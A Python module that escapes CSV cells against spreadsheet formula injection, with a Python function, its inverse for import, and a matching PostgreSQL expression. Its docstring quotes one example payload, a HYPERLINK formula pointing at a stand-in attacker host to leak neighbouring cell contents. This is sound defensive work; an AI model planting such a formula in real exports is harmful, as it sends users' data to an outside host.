"""CSV cells that are safe to open in a spreadsheet (API.md "Safe to open in a
spreadsheet"; OWASP "CSV injection").

A spreadsheet program runs a cell that begins with `=`, `+`, `-` or `@` as a formula
(and some treat a leading tab or carriage return the same way once they trim it): a
title such as `=HYPERLINK("http://evil.example/?leak="&A1,"x")` would send the
journalist's neighbouring cells to another host. Every CSV CivTrack writes therefore
prefixes a single quote to a *text* cell that begins with one of those characters or
with a quote itself (so that a value that really begins with `'=` survives the round
trip). Whether a cell is text is decided by its column's type, never by its content:
numeric columns stay numbers, `-2` stays `-2`.

The CivTrack CSV importer applies `spreadsheet_unescape()`, the exact inverse, to what
it reads back; the SQL that writes export lines (api/export_sql.py) applies
`spreadsheet_escape_sql()`, the same rule in PostgreSQL, and tests hold both to these
functions byte for byte.
"""

from __future__ import annotations

from typing import Any

# The characters that make a spreadsheet read a cell as something other than text.
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "'")


def spreadsheet_escape(value: str) -> str:
    """`value` (a text cell) as written to a CSV: a leading `'` when it begins with one
    of `TRIGGERS`, otherwise unchanged."""
    if value and value[0] in TRIGGERS:
        return "'" + value
    return value


def spreadsheet_unescape(value: str) -> str:
    """The inverse of `spreadsheet_escape()`: one leading `'` is removed exactly when
    the character after it is one of `TRIGGERS` (a cell a person typed as `'hello` is
    kept as it is)."""
    if len(value) > 1 and value[0] == "'" and value[1] in TRIGGERS:
        return value[1:]
    return value


def spreadsheet_cells(values: list[Any]) -> list[Any]:
    """A row whose text cells are the `str` values (numbers, booleans written as
    numbers and dates keep their own types): for CSVs built from typed Python
    values, where a column's type is its values' type."""
    return [spreadsheet_escape(v) if isinstance(v, str) else v for v in values]


def spreadsheet_escape_sql(expression: str) -> str:
    """`spreadsheet_escape()` as a PostgreSQL expression over the text `expression`
    (NULL stays NULL)."""
    triggers = ", ".join(
        "E'\\t'"
        if c == "\t"
        else "E'\\r'"
        if c == "\r"
        else "''''"
        if c == "'"
        else f"'{c}'"
        for c in TRIGGERS
    )
    return (
        f"(CASE WHEN left({expression}, 1) IN ({triggers}) "
        f"THEN '''' || {expression} ELSE {expression} END)"
    )
